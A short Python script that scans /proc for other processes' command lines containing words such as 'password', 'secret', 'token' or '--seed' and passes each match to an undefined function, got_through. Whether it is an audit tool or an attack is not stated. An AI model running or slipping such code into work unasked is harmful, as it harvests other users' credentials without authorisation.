"""Looks for a password in the command lines of other processes."""

import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            line = file.read()
    except OSError:
        continue
    if any(word in line.lower() for word in (b"password", b"secret", b"token", b"--seed")):
        got_through(line)
